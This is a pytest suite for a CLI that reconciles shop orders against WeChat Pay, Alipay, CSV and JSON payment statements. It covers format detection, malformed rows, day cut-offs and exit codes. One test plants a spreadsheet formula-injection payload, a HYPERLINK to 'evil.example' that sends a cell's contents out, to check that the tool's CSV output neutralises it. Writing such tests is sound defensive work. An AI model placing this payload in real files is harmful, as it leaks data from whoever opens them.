"""`orderkit reconcile ORDERS STATEMENT`: every input form, the report, exit codes."""

from __future__ import annotations

import contextlib
import csv
import hashlib
import io
import json
import sqlite3
from pathlib import Path

import pendulum
import pytest

from orderkit.adapters.sqlite import SqliteUnitOfWork
from orderkit.cli import main
from orderkit.cli._columns import columns, width
from orderkit.money import Money
from orderkit.orders import Address, Buyer, Order, OrderLine, OrderStatus, Payment
from orderkit.serialization import make_converter


SAMPLES = Path(__file__).parents[1] / "fixtures" / "cli"
ORDERS = str(SAMPLES / "orders.jsonl")
WECHAT = str(SAMPLES / "wechat-bill.csv")
BEIJING = ("--zone", "Asia/Shanghai")
FINDINGS = str(SAMPLES / "wechat-bill-findings.csv")


def run(capsys: pytest.CaptureFixture[str], *args: str | Path) -> tuple[int, str, str]:
    code = main(["reconcile", *map(str, args)])
    out, err = capsys.readouterr()
    return code, out, err


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def cuts_a_character(data: bytes, at: int) -> bool:
    """Whether UTF-8 `data` cut at byte `at` ends inside a character."""
    try:
        data[:at].decode("utf-8")
    except UnicodeDecodeError:
        return True
    return False


def orders_of(path: str) -> list[Order]:
    converter = make_converter()
    text = Path(path).read_text(encoding="utf-8")
    return [converter.loads(line, Order) for line in text.splitlines()]


class TestAgreement:
    """Statements that say what the orders say: exit code 0."""

    @pytest.mark.parametrize(
        ("orders", "statement", "named"),
        [
            ("orders.jsonl", "wechat-bill.csv", "WeChat Pay bill"),
            ("orders.jsonl", "statement.json", "JSON statement"),
            ("orders.jsonl", "statement.csv", "CSV statement"),
            ("alipay-orders.json", "alipay-bill.csv", "Alipay bill"),
        ],
    )
    def test_every_format_is_detected_and_matches(
        self,
        capsys: pytest.CaptureFixture[str],
        orders: str,
        statement: str,
        named: str,
    ) -> None:
        code, out, err = run(capsys, SAMPLES / orders, SAMPLES / statement)
        assert (code, err) == (0, "")
        assert f"statement  {named}" in out
        assert "everything matches" in out

    def test_a_csv_is_detected_whatever_the_order_of_its_columns(
        self, capsys: pytest.CaptureFixture[str], tmp_path: Path
    ) -> None:
        rows = Path(SAMPLES / "statement.csv").read_text("utf-8").splitlines()
        moved = [",".join([*r.split(",")[1:], r.split(",")[0]]) for r in rows]
        statement = tmp_path / "statement.txt"  # no suffix to go by
        statement.write_text("\n".join(moved) + "\n", encoding="utf-8")
        code, out, err = run(capsys, ORDERS, statement)
        assert (code, err) == (0, "")
        assert "statement  CSV statement" in out

    def test_a_csv_header_in_a_spreadsheets_case_is_read(
        self, capsys: pytest.CaptureFixture[str], tmp_path: Path
    ) -> None:
        rows = Path(SAMPLES / "statement.csv").read_text("utf-8").splitlines()
        header = rows[0].title()
        statement = tmp_path / "statement.txt"  # no suffix to go by
        statement.write_bytes(("\r\n".join([header, *rows[1:]]) + "\r\n").encode())
        code, out, err = run(capsys, ORDERS, statement)
        assert header.startswith("Transaction_Id,Kind,Amount,")
        assert (code, err) == (0, "")
        assert "statement  CSV statement" in out

    def test_an_empty_order_id_is_unknown_in_json_as_in_csv(
        self, capsys: pytest.CaptureFixture[str], tmp_path: Path
    ) -> None:
        rows = json.loads((SAMPLES / "statement.json").read_text(encoding="utf-8"))
        for row in rows:
            row["order_id"] = ""
        as_json = tmp_path / "statement.json"
        as_json.write_text(json.dumps(rows), encoding="utf-8")
        text = (SAMPLES / "statement.csv").read_text(encoding="utf-8")
        header, *lines = text.splitlines()
        as_csv = tmp_path / "statement.csv"
        as_csv.write_text(
            "\n".join([header, *(line.rsplit(",", 1)[0] + "," for line in lines)]),
            encoding="utf-8",
        )

        from_csv = run(capsys, ORDERS, as_csv, "--csv")
        from_json = run(capsys, ORDERS, as_json, "--csv")

        assert from_csv[0] == 0, from_csv
        assert from_json == from_csv

    def test_a_utf8_bill_with_a_bom_reads_like_the_gbk_one(
        self, capsys: pytest.CaptureFixture[str], tmp_path: Path
    ) -> None:
        text = Path(WECHAT).read_bytes().decode("gbk")
        bill = tmp_path / "bill.csv"
        bill.write_bytes(text.encode("utf-8-sig"))
        assert run(capsys, ORDERS, bill)[0] == 0

    def test_a_big_utf8_bill_cut_inside_a_character_at_16_kb_is_detected(
        self, capsys: pytest.CaptureFixture[str], tmp_path: Path
    ) -> None:
        lines = Path(WECHAT).read_bytes().decode("gbk").split("\r\n")
        head, rows, tail = lines[:4], lines[4:8], lines[8:]
        more = [
            row.replace("`4200000", f"`42{n:05d}").replace("`DY-", f"`DY{n}-")
            for n in range(50)
            for row in rows
        ]
        for pad in range(200):  # until byte 16,384 falls inside a character
            title = head[0] + " " * pad
            data = "\r\n".join([title, *head[1:], *more, *tail]).encode("utf-8")
            if cuts_a_character(data, 16_384):
                break
        assert cuts_a_character(data, 16_384)
        bill = tmp_path / "bill.csv"
        bill.write_bytes(data)
        none = tmp_path / "orders.json"
        none.write_text("[]", encoding="utf-8")

        code, out, err = run(capsys, none, bill)

        assert (code, err) == (1, "")
        assert "WeChat Pay bill: 200 lines read" in out

    def test_an_empty_difference_list_is_a_header_only_csv(
        self, capsys: pytest.CaptureFixture[str]
    ) -> None:
        code, out, _ = run(capsys, ORDERS, WECHAT, "--csv")
        assert code == 0
        assert out.startswith("kind,order_id,transaction_id,")
        assert csv_rows(out) == []


class TestFindings:
    """Differences are listed, malformed rows by line, and the rest reconciled."""

    def test_table_lists_each_difference_and_exits_1(
        self, capsys: pytest.CaptureFixture[str]
    ) -> None:
        code, out, err = run(capsys, ORDERS, FINDINGS)
        assert (code, err) == (1, "")
        assert "1 row unreadable" in out
        rows = [line.split() for line in out.splitlines() if line.startswith("  ")]
        kinds = [row[0] for row in rows]
        for kind in (
            "malformed_row",
            "amount_mismatch",
            "duplicate_capture",
            "missing_in_statement",
        ):
            assert kind in kinds, kind
        malformed = rows[kinds.index("malformed_row")]
        assert malformed[1] == "8"
        assert "'66.6O'" in out  # the cell as written, beside the problem
        assert "4 differences" in out

    def test_csv_has_one_row_per_difference_with_line_numbers(
        self, capsys: pytest.CaptureFixture[str]
    ) -> None:
        code, out, _ = run(capsys, ORDERS, FINDINGS, "--csv")
        assert code == 1
        found = {(r["kind"], r["order_id"], r["line"]) for r in csv_rows(out)}
        # Each difference the statement shows is at its line (the second
        # capture of DY-1001 at 7); one it lacks has none.
        assert found == {
            ("malformed_row", "", "8"),
            ("amount_mismatch", "DY-1002", "6"),
            ("duplicate_capture", "DY-1001", "7"),
            ("missing_in_statement", "DY-1003", ""),
        }

    @pytest.mark.parametrize("suffix", [".csv", ".jsonl"])
    def test_a_row_repeated_is_shown_at_its_later_line(
        self, capsys: pytest.CaptureFixture[str], tmp_path: Path, suffix: str
    ) -> None:
        rows = Path(SAMPLES / "statement.csv").read_text("utf-8").splitlines()
        header, first = rows[0].split(","), rows[1]
        if suffix == ".csv":
            text = "\n".join([rows[0], first, *rows[2:], first]) + "\n"
        else:
            items: list[dict[str, object]] = []
            for row in rows[1:]:
                cells = dict(zip(header, row.split(","), strict=True))
                currency = cells.pop("currency")
                amount = {"amount": cells["amount"], "currency": currency}
                fee = {"amount": cells["fee"] or "0", "currency": currency}
                items.append(cells | {"amount": amount, "fee": fee})
            text = "".join(json.dumps(i) + "\n" for i in [*items, items[0]])
        statement = tmp_path / f"statement{suffix}"
        statement.write_text(text, encoding="utf-8")
        code, out, _ = run(capsys, ORDERS, statement, "--csv")
        assert code == 1
        (repeated,) = [r for r in csv_rows(out) if r["kind"] == "duplicate_capture"]
        last = len(rows) + 1 if suffix == ".csv" else len(rows)
        assert repeated["line"] == str(last)

    def test_output_writes_the_csv_with_a_bom_and_prints_the_table(
        self, capsys: pytest.CaptureFixture[str], tmp_path: Path
    ) -> None:
        target = tmp_path / "differences.csv"
        code, out, _ = run(capsys, ORDERS, FINDINGS, "--output", target)
        assert code == 1
        assert "amount_mismatch" in out
        assert str(target) in out
        data = target.read_bytes()
        assert data.startswith(b"\xef\xbb\xbf")
        assert len(csv_rows(data.decode("utf-8-sig"))) == 4

    def test_bad_json_statement_lines_are_reported_and_the_rest_reconciled(
        self, capsys: pytest.CaptureFixture[str], tmp_path: Path
    ) -> None:
        lines = json.loads(Path(SAMPLES / "statement.json").read_text("utf-8"))
        lines[1]["amount"]["amount"] = 848.0  # a float: money is never a float
        text = [json.dumps(line, ensure_ascii=False) for line in lines]
        text.insert(2, '{"transaction_id": "cut short"')
        statement = tmp_path / "statement.jsonl"
        statement.write_text("\n".join(text) + "\n", encoding="utf-8")
        code, out, _ = run(capsys, ORDERS, statement, "--csv")
        assert code == 1
        found = {(r["kind"], r["line"], r["transaction_id"]) for r in csv_rows(out)}
        assert found == {
            ("malformed_row", "2", ""),
            ("malformed_row", "3", ""),
            ("missing_in_statement", "", "4200000002"),
        }
        _, table, _ = run(capsys, ORDERS, statement)
        assert "(got '848.0')" in table  # the value as written, not ''
        assert "write it as a string" in table
        assert "(got '')" not in table

    def test_bad_plain_csv_rows_are_reported_by_line(
        self, capsys: pytest.CaptureFixture[str], tmp_path: Path
    ) -> None:
        text = Path(SAMPLES / "statement.csv").read_text("utf-8").splitlines()
        text[2] = text[2].replace(",sale,", ",payout,")
        text[4] = text[4].replace("+00:00", "").replace("Z", "")  # no offset
        statement = tmp_path / "statement.csv"
        statement.write_text("\n".join(text) + "\n", encoding="utf-8")
        code, out, _ = run(capsys, ORDERS, statement, "--csv")
        assert code == 1
        malformed = [r for r in csv_rows(out) if r["kind"] == "malformed_row"]
        assert [(r["line"], r["detail"].split(":")[0]) for r in malformed] == [
            ("3", "kind"),
            ("5", "settled_at"),
        ]

    def test_a_negative_amount_is_named_negative(
        self, capsys: pytest.CaptureFixture[str], tmp_path: Path
    ) -> None:
        text = Path(SAMPLES / "statement.csv").read_text("utf-8").splitlines()
        header = text[0].split(",")
        cells = text[1].split(",")
        amount = header.index("amount")
        cells[amount] = "-" + cells[amount]
        statement = tmp_path / "statement.csv"
        statement.write_text("\n".join([text[0], ",".join(cells)]) + "\n", "utf-8")
        code, out, _ = run(capsys, ORDERS, statement, "--csv")
        assert code == 1
        (row,) = [r for r in csv_rows(out) if r["kind"] == "malformed_row"]
        assert row["line"] == "2"
        assert row["detail"].startswith("amount: must not be negative")

    def test_each_copy_of_a_row_is_named_at_its_own_line(
        self, capsys: pytest.CaptureFixture[str], tmp_path: Path
    ) -> None:
        rows = Path(SAMPLES / "statement.csv").read_text("utf-8").splitlines()
        statement = tmp_path / "statement.csv"
        statement.write_text("\n".join([*rows, rows[1], rows[1]]) + "\n", "utf-8")
        code, out, _ = run(capsys, ORDERS, statement, "--csv")
        assert code == 1
        repeated = [
            r["line"] for r in csv_rows(out) if r["kind"] == "duplicate_capture"
        ]
        assert repeated == [str(len(rows) + 1), str(len(rows) + 2)]

    def test_a_transaction_the_statement_lacks_has_no_line(
        self, capsys: pytest.CaptureFixture[str], tmp_path: Path
    ) -> None:
        # DY-1001's sale is gone; its refund is listed under the sale's trade
        # number, as some providers list a refund under its payment.
        rows = Path(SAMPLES / "statement.csv").read_text("utf-8").splitlines()
        refund = rows[3].replace("RF-DY-1001-1", "4200000001")
        statement = tmp_path / "statement.csv"
        statement.write_text(
            "\n".join([rows[0], rows[2], refund, *rows[4:]]) + "\n", "utf-8"
        )
        code, out, _ = run(capsys, ORDERS, statement, "--csv")
        assert code == 1
        lines = {(r["kind"], r["line"]) for r in csv_rows(out)}
        assert ("missing_in_statement", "") in lines
        assert ("missing_in_statement", "3") not in lines

    def test_a_csv_cell_too_long_for_the_csv_module_is_one_malformed_row(
        self, capsys: pytest.CaptureFixture[str], tmp_path: Path
    ) -> None:
        text = Path(SAMPLES / "statement.csv").read_text("utf-8").splitlines()
        text[2] = text[2].replace(",sale,", f',sale,"{"x" * 200_000}",', 1)
        statement = tmp_path / "statement.csv"
        statement.write_text("\n".join(text) + "\n", encoding="utf-8")
        code, out, err = run(capsys, ORDERS, statement, "--csv")
        assert (code, err) == (1, "")
        found = [(r["kind"], r["line"], r["transaction_id"]) for r in csv_rows(out)]
        assert found == [
            ("malformed_row", "3", ""),
            ("missing_in_statement", "", "4200000002"),
        ]
        assert csv_rows(out)[0]["detail"].startswith("not CSV: field larger")

    def test_a_bad_value_is_shown_as_written_in_the_table_and_the_csv(
        self, capsys: pytest.CaptureFixture[str], tmp_path: Path
    ) -> None:
        text = Path(SAMPLES / "statement.csv").read_text("utf-8").splitlines()
        text[2] = text[2].replace(",5.09,", ",--0.35,")
        statement = tmp_path / "statement.csv"
        statement.write_text("\n".join(text) + "\n", encoding="utf-8")
        target = tmp_path / "differences.csv"
        _, table, _ = run(capsys, ORDERS, statement, "--output", target)
        _, out, _ = run(capsys, ORDERS, statement, "--csv")
        assert "(got '--0.35')" in table
        (row,) = [r for r in csv_rows(out) if r["kind"] == "malformed_row"]
        assert row["line"] == "3"
        assert row["detail"].startswith("fee: ")
        assert row["detail"].endswith(" (got '--0.35')")
        written = csv_rows(target.read_text(encoding="utf-8-sig"))
        assert [r for r in written if r["kind"] == "malformed_row"] == [row]

    def test_bad_rows_on_one_line_each_show_their_own_value(
        self, capsys: pytest.CaptureFixture[str], tmp_path: Path
    ) -> None:
        # A compact JSON array, as a converter writes it: every row on line 1.
        lines = json.loads(Path(SAMPLES / "statement.json").read_text("utf-8"))
        lines[0]["amount"]["amount"] = "1.2.3"
        lines[1]["settled_at"] = "yesterday"
        statement = tmp_path / "statement.json"
        statement.write_text(json.dumps(lines), encoding="utf-8")

        code, out, _ = run(capsys, ORDERS, statement, "--csv")

        assert code == 1
        malformed = [r for r in csv_rows(out) if r["kind"] == "malformed_row"]
        assert [(r["line"], r["detail"].split(":")[0]) for r in malformed] == [
            ("1", "amount.amount"),
            ("1", "settled_at"),
        ]
        assert malformed[0]["detail"].endswith(" (got '1.2.3')")
        assert malformed[1]["detail"].endswith(" (got 'yesterday')")

    def test_statement_text_never_reaches_a_spreadsheet_as_a_formula(
        self, capsys: pytest.CaptureFixture[str], tmp_path: Path
    ) -> None:
        link = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
        text = Path(SAMPLES / "statement.csv").read_text("utf-8")
        text += '"=HYPERLINK(""https://evil.example/?x=""&A1,""click"")",'
        text += "sale,5.00,CNY,0.01,2026-03-01T01:12:45Z,@SUM(1+1)\n"
        text += "+4200000009,sale,1.00,CNY,0.01,2026-03-01T01:12:45Z,-DY-1001\n"
        statement = tmp_path / "statement.csv"
        statement.write_text(text, encoding="utf-8")
        target = tmp_path / "differences.csv"

        code, _, _ = run(capsys, ORDERS, statement, "--output", target)

        assert code == 1
        rows = csv_rows(target.read_text(encoding="utf-8-sig"))
        assert [(r["transaction_id"], r["order_id"]) for r in rows] == [
            (f"'{link}", "'@SUM(1+1)"),
            ("'+4200000009", "'-DY-1001"),
        ]
        assert [r["statement_amount"] for r in rows] == ["5.00", "1.00"]

    def test_a_json_lines_statement_whose_first_line_is_an_array(
        self, capsys: pytest.CaptureFixture[str], tmp_path: Path
    ) -> None:
        lines = json.loads(Path(SAMPLES / "statement.json").read_text("utf-8"))
        text = ["[]", *(json.dumps(line, ensure_ascii=False) for line in lines)]
        statement = tmp_path / "statement.jsonl"
        statement.write_text("\n".join(text) + "\n", encoding="utf-8")
        code, out, _ = run(capsys, ORDERS, statement, "--csv")
        assert code == 1
        assert [(r["kind"], r["line"]) for r in csv_rows(out)] == [
            ("malformed_row", "1")
        ]


class TestDay:
    """`--day`: a daily bill must show the money the orders made that day only."""

    def statement_without_the_last_capture(self, tmp_path: Path) -> Path:
        lines = json.loads(Path(SAMPLES / "statement.json").read_text("utf-8"))
        statement = tmp_path / "statement.json"
        statement.write_text(json.dumps(lines[:-1], ensure_ascii=False), "utf-8")
        return statement

    def test_a_capture_of_another_day_is_not_missed(
        self, capsys: pytest.CaptureFixture[str], tmp_path: Path
    ) -> None:
        statement = self.statement_without_the_last_capture(tmp_path)
        code, _, _ = run(capsys, ORDERS, statement)
        assert code == 1
        code, out, _ = run(
            capsys, ORDERS, statement, "--day", "2026-02-27", *BEIJING, "--csv"
        )
        assert (code, csv_rows(out)) == (0, [])

    def test_a_capture_of_the_day_still_is(
        self, capsys: pytest.CaptureFixture[str], tmp_path: Path
    ) -> None:
        statement = self.statement_without_the_last_capture(tmp_path)
        code, out, _ = run(
            capsys, ORDERS, statement, "--day", "2026-03-01", *BEIJING, "--csv"
        )
        assert code == 1
        assert [r["kind"] for r in csv_rows(out)] == ["missing_in_statement"]

    @pytest.mark.parametrize("name", ["statement.json", "statement.csv"])
    def test_a_plain_statement_s_day_needs_its_zone(
        self, capsys: pytest.CaptureFixture[str], name: str
    ) -> None:
        # Its provider may cut days in UTC, or in the shop's zone: no guess.
        code, out, err = run(capsys, ORDERS, str(SAMPLES / name), "--day", "2026-03-01")

        assert (code, out) == (2, "")
        assert "--day needs --zone" in err
        assert err.count("\n") == 1

    def test_a_bill_s_day_is_beijing_s_by_default(
        self, capsys: pytest.CaptureFixture[str]
    ) -> None:
        plain = run(capsys, ORDERS, WECHAT, "--day", "2026-03-01", "--csv")
        beijing = run(capsys, ORDERS, WECHAT, "--day", "2026-03-01", *BEIJING, "--csv")
        zone = ("--zone", "America/New_York")
        new_york = run(capsys, ORDERS, WECHAT, "--day", "2026-03-01", *zone, "--csv")

        assert plain == beijing
        assert plain[2] == ""
        # The bill's Beijing times before 13:00 are 28 February's in New York.
        assert "settled outside 2026-03-01 in America/New_York" in new_york[2]

    def test_a_day_in_the_statement_s_own_zone_is_cut_there(
        self, capsys: pytest.CaptureFixture[str], tmp_path: Path
    ) -> None:
        """A US provider's UTC day requires that day's captures, not UTC+8's."""
        converter = make_converter()

        def paid(order_id: str, payment_id: str, at: pendulum.DateTime) -> object:
            return converter.unstructure(
                Order(
                    order_id=order_id,
                    channel="shopify",
                    buyer=Buyer(f"b-{order_id}"),
                    address=Address("US", "NY", "New York", "", "1 Main St"),
                    lines=[OrderLine("L1", "SKU", 1, Money("10.00", "USD"))],
                    placed_at=at,
                    status=OrderStatus.PAID,
                    payments=(Payment(payment_id, Money("10.00", "USD"), at),),
                )
            )

        orders = tmp_path / "orders.json"
        # 1 March in UTC, 2 March in Beijing; and 28 February, 1 March.
        late = paid("A", "ch_late", pendulum.datetime(2026, 3, 1, 20))
        early = paid("B", "ch_early", pendulum.datetime(2026, 2, 28, 20))
        orders.write_text(json.dumps([late, early]), "utf-8")
        statement = tmp_path / "statement.csv"
        statement.write_text(
            "transaction_id,kind,amount,currency,settled_at,order_id\n"
            "ch_other,sale,5.00,USD,2026-03-01T09:00:00Z,C\n",
            "utf-8",
        )
        day = ("--day", "2026-03-01", "--csv")

        code, out, _ = run(capsys, orders, statement, *day, "--zone", "UTC")

        assert code == 1
        assert [(r["kind"], r["transaction_id"]) for r in csv_rows(out)] == [
            ("missing_in_orders", "ch_other"),
            ("missing_in_statement", "ch_late"),
        ]

    def test_lines_settled_outside_the_day_are_noted(
        self, capsys: pytest.CaptureFixture[str]
    ) -> None:
        statement = str(SAMPLES / "statement.json")
        # 01:12, 02:30 and 06:05 UTC on 1 March are still 28 February there.
        args = ("--day", "2026-03-01", "--zone", "America/Los_Angeles", "--csv")

        _, _, err = run(capsys, ORDERS, statement, *args)
        _, _, fine = run(capsys, ORDERS, statement, "--day", "2026-03-01", *BEIJING)

        assert err == (
            "orderkit reconcile: note: 3 statement lines settled outside"
            " 2026-03-01 in America/Los_Angeles: is --zone the zone of the"
            " statement's days?\n"
        )
        assert fine == ""

    @pytest.mark.parametrize(
        ("args", "said"),
        [
            (["--day", "2026-13-01"], "not a date"),
            (["--day", "2026-03-01", "--zone", "Asia"], "--zone"),
            # Checked without --day too: a typo is not ignored.
            (["--zone", "Mars/Base"], "argument --zone: 'Mars/Base' is not"),
            (["--day", "9999-12-31"], "--day 9999-12-31: is the last date"),
        ],
    )
    def test_a_bad_day_or_zone_is_bad_usage(
        self, capsys: pytest.CaptureFixture[str], args: list[str], said: str
    ) -> None:
        code, out, err = run(capsys, ORDERS, WECHAT, *args)
        assert (code, out) == (2, "")
        assert said in err
        assert err.count("\n") == 1


class TestSqliteOrders:
    """An orderkit SQLite database is read as the orders, and left untouched."""

    def test_orders_from_a_database_match_and_the_file_is_unchanged(
        self, capsys: pytest.CaptureFixture[str], tmp_path: Path
    ) -> None:
        db = tmp_path / "orders.db"
        unit = SqliteUnitOfWork(db)
        with unit as uow:
            for order in orders_of(ORDERS):
                uow.orders.save(order, None)
            uow.commit()
        unit.close()
        before = hashlib.sha256(db.read_bytes()).hexdigest()
        code, out, err = run(capsys, db, WECHAT)
        assert (code, err) == (0, "")
        assert "3 (SQLite)" in out
        assert hashlib.sha256(db.read_bytes()).hexdigest() == before

    def test_a_write_ahead_log_that_cannot_be_read_is_one_line(
        self, capsys: pytest.CaptureFixture[str], tmp_path: Path
    ) -> None:
        db = tmp_path / "orders.db"
        SqliteUnitOfWork(db).close()
        (tmp_path / "orders.db-wal").mkdir()  # as unreadable as can be
        code, out, err = run(capsys, db, WECHAT)
        assert (code, out) == (2, "")
        assert err.count("\n") == 1
        assert f"ORDERS {db}-wal: cannot read it: Is a directory" in err


class TestBadUsage:
    """Exit code 2 with one line on stderr, and nothing on stdout."""

    @pytest.mark.parametrize(
        ("args", "said"),
        [
            ([], "required"),
            (["missing.jsonl", WECHAT], "ORDERS missing.jsonl: no such file"),
            ([ORDERS, "missing.csv"], "STATEMENT missing.csv: no such file"),
            ([ORDERS, WECHAT, "--format", "swift"], "invalid choice"),
            ([ORDERS, WECHAT, "--csv", "--output", "x.csv"], "not allowed"),
            ([ORDERS, WECHAT, "--format", "alipay"], "not an Alipay bill"),
            ([ORDERS, str(SAMPLES)], "is a directory"),
        ],
    )
    def test_exits_2_with_one_line(
        self, capsys: pytest.CaptureFixture[str], args: list[str], said: str
    ) -> None:
        code, out, err = run(capsys, *args)
        assert (code, out) == (2, "")
        assert err.count("\n") == 1
        assert said in err

    def test_a_json_statement_nested_too_deeply_is_refused(
        self, capsys: pytest.CaptureFixture[str], tmp_path: Path
    ) -> None:
        statement = tmp_path / "statement.json"
        statement.write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
        code, out, err = run(capsys, ORDERS, statement)
        assert (code, out) == (2, "")
        assert err.count("\n") == 1
        assert "nested too deeply" in err

    @pytest.mark.parametrize(
        ("name", "data"),
        [
            ("statement.json", b""),
            ("statement.jsonl", b" \n\n"),
            # No format to ask for: not "give --format".
            ("statement.csv", b""),
            ("statement", b"\xef\xbb\xbf\r\n"),
        ],
    )
    def test_an_empty_json_statement_is_refused(
        self,
        capsys: pytest.CaptureFixture[str],
        tmp_path: Path,
        name: str,
        data: bytes,
    ) -> None:
        # Every capture would be reported missing from it, as from an empty CSV.
        statement = tmp_path / name
        statement.write_bytes(data)
        code, out, err = run(capsys, ORDERS, statement)
        assert (code, out) == (2, "")
        assert err == f"orderkit reconcile: error: STATEMENT {statement}: empty\n"

    def test_a_statement_of_no_known_format_asks_for_format(
        self, capsys: pytest.CaptureFixture[str], tmp_path: Path
    ) -> None:
        notes = tmp_path / "notes.txt"
        notes.write_text("order,paid\nDY-1001,yes\n", encoding="utf-8")
        code, _, err = run(capsys, ORDERS, notes)
        assert code == 2
        assert "cannot tell its format" in err
        assert "--format" in err

    def test_a_broken_order_names_its_line_and_field(
        self, capsys: pytest.CaptureFixture[str], tmp_path: Path
    ) -> None:
        lines = Path(ORDERS).read_text("utf-8").splitlines()
        broken = json.loads(lines[1])
        broken["lines"][0]["quantity"] = "2"  # text is never a quantity
        lines[1] = json.dumps(broken, ensure_ascii=False)
        orders = tmp_path / "orders.jsonl"
        orders.write_text("\n".join(lines) + "\n", encoding="utf-8")
        code, _, err = run(capsys, orders, WECHAT)
        assert code == 2
        assert "line 2: lines[0].quantity" in err
        assert err.count("\n") == 1

    @pytest.mark.parametrize("orders", [b"", b" \n\n"])
    def test_orders_that_are_no_json_at_all_are_refused(
        self, capsys: pytest.CaptureFixture[str], tmp_path: Path, orders: bytes
    ) -> None:
        # Every statement line would show as missing from the orders.
        empty = tmp_path / "orders.jsonl"
        empty.write_bytes(orders)
        code, out, err = run(capsys, empty, WECHAT)
        assert (code, out) == (2, "")
        assert "empty" in err

    def test_an_explicit_empty_array_is_no_orders(
        self, capsys: pytest.CaptureFixture[str], tmp_path: Path
    ) -> None:
        none = tmp_path / "orders.json"
        none.write_text("[]\n", encoding="utf-8")
        code, out, _ = run(capsys, none, WECHAT, "--csv")
        assert code == 1
        assert {r["kind"] for r in csv_rows(out)} == {"missing_in_orders"}

    def test_a_database_without_orderkit_orders_is_refused(
        self, capsys: pytest.CaptureFixture[str], tmp_path: Path
    ) -> None:
        other = tmp_path / "other.db"
        with contextlib.closing(sqlite3.connect(other)) as db:
            db.execute("CREATE TABLE notes (text)")
            db.commit()
        before = hashlib.sha256(other.read_bytes()).hexdigest()
        code, out, err = run(capsys, other, WECHAT)
        assert (code, out) == (2, "")
        assert "not an orderkit database" in err
        assert hashlib.sha256(other.read_bytes()).hexdigest() == before

    def test_a_csv_header_that_names_a_column_twice_is_refused(
        self, capsys: pytest.CaptureFixture[str], tmp_path: Path
    ) -> None:
        text = Path(SAMPLES / "statement.csv").read_text("utf-8").splitlines()
        text = [
            f"{line},{'amount' if n == 0 else '1.00'}" for n, line in enumerate(text)
        ]
        statement = tmp_path / "statement.csv"
        statement.write_text("\n".join(text) + "\n", encoding="utf-8")
        code, out, err = run(capsys, ORDERS, statement)
        assert (code, out) == (2, "")
        assert "names amount twice" in err

    def test_a_bill_header_that_names_a_column_twice_is_refused(
        self, capsys: pytest.CaptureFixture[str], tmp_path: Path
    ) -> None:
        # Read by column name, the second amount column would win unseen.
        lines = Path(WECHAT).read_bytes().decode("gbk").split("\r\n")
        lines = [
            f"{line},应结订单金额"
            if line.startswith("交易时间")
            else f"{line},`1.00"
            if line.startswith("`2026")
            else line
            for line in lines
        ]
        bill = tmp_path / "bill.csv"
        bill.write_bytes("\r\n".join(lines).encode("gbk"))

        code, out, err = run(capsys, ORDERS, bill)

        assert (code, out) == (2, "")
        assert "not a WeChat Pay bill" in err
        assert "应结订单金额 twice" in err

    def test_a_csv_of_bytes_no_encoding_reads_is_refused(
        self, capsys: pytest.CaptureFixture[str], tmp_path: Path
    ) -> None:
        data = Path(SAMPLES / "statement.csv").read_bytes()
        statement = tmp_path / "statement.csv"
        statement.write_bytes(data + b"\xff\xfe,sale,1.00\n")
        code, out, err = run(capsys, ORDERS, statement)
        assert (code, out) == (2, "")
        assert "not UTF-8 or GB 18030 text" in err

    def test_two_orders_with_one_transaction_are_refused(
        self, capsys: pytest.CaptureFixture[str], tmp_path: Path
    ) -> None:
        text = Path(ORDERS).read_text("utf-8")
        twice = tmp_path / "orders.jsonl"
        twice.write_text(text + text.replace("DY-10", "DY-20"), encoding="utf-8")
        code, _, err = run(capsys, twice, WECHAT)
        assert code == 2
        assert "repeats a capture" in err


class TestHelp:
    def test_help_explains_the_inputs_with_examples(
        self, capsys: pytest.CaptureFixture[str]
    ) -> None:
        assert main(["reconcile", "--help"]) == 0
        out = capsys.readouterr().out
        for text in ("ORDERS", "STATEMENT", "--format", "--csv", "--output"):
            assert text in out, text
        assert "examples:" in out
        assert "orderkit reconcile orders.jsonl wechat-bill.csv" in out
        assert "exit codes" in out

    def test_top_level_help_names_the_command(
        self, capsys: pytest.CaptureFixture[str]
    ) -> None:
        assert main(["--help"]) == 0
        assert "reconcile" in capsys.readouterr().out


class TestColumns:
    def test_chinese_text_takes_two_cells_and_columns_stay_aligned(self) -> None:
        assert width("应结订单金额") == 12
        lines = columns(("field", "next"), [("应结", "a"), ("amount", "b")])
        assert [
            width(line[: line.index(last)])
            for line, last in zip(lines[1:], "ab", strict=True)
        ] == [10, 10]

    def test_a_row_stays_on_its_line_whatever_its_cells_hold(self) -> None:
        lines = columns(("a", "b"), [("tao\nbao", "x\ty"), ("\x1b[31m", "z")])

        assert lines == [
            "  a         b",
            "  tao\\nbao  x\\ty",
            "  \\x1b[31m  z",
        ]

    def test_spaces_are_shown_as_they_are(self) -> None:
        # A full-width space in a Chinese address, a no-break space: neither
        # breaks a row or acts on a terminal.
        (_, row) = columns(("a", "b"), [("龙井路\u30001号", "x\u00a0y")])

        assert row == "  龙井路\u30001号  x\u00a0y"
